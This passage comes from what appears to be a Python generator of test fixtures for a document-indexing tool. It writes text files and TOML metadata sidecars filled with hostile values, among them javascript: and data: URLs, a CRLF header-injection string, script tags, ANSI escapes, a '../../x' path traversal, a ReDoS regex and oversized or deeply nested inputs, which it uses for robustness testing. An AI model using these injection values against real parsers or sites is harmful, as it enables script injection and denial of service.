        (f"title = {hostile}\nsource = {hostile}\nauthor = {hostile}\ntags = [{hostile}]\nnote = {hostile}\n", 'url = "javascript:canary()"\n', 'url = "https://x.example/\\r\\nX: 1"\n', 'rights = "<script>"\n', 'date = "\\u001b[31m"\n',
         '"<script>" = 1\n', "title = 1\ntitle = 2\n", "\x00", "title = \"" + "x" * 300_000 + "\"\n", "a = " + "[" * 3_000, 'language = "../../x"\n', 'section = "]]>"\nskip = false\n', 'restore = ["(a+)+$"]\n')
    ):  # fmt: skip
        word = f"zebraside{number:02}"
        yield Case(f"side/{number:02}.md", _utf8(f"# Ferry leaves\n\n{_prose('', word)}\n"), word)
        yield Case(f"side/{number:02}.md.meta.toml", _utf8(body))
    yield Case("side/absent.txt.meta.toml", _utf8(f"title = {hostile}\n"))
    yield Case("side/\x1b[31m.meta.toml", b"nonsense")
    yield Case("side/below/_folder.toml", _utf8(f"source = {hostile}\nurl = \"data:,x\"\n"))
    yield Case("side/below/a.txt", _utf8(_text("zebrabelow")), "zebrabelow")


def cases() -> tuple[Case, ...]:
    """All of them, and one harmless neighbour."""
    tame = Case("tame.txt", _utf8(_text("zebratame")), "zebratame")
    return (tame, *crossed(), *encodings(), *structures(), *names(), *sidecars())


def write(content: Path, chosen: tuple[Case, ...]) -> tuple[Case, ...]:
    """The cases as files; those whose name this file system does not take are left out. What was written."""
    written = []
    for case in chosen:
        path = content / case.path
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(case.body)
        except (OSError, ValueError):
            continue
        written.append(case)
    return tuple(written)


if __name__ == "__main__":
    sys.stdout.write(f"{len(write(Path(sys.argv[1]), cases()))} files\n")
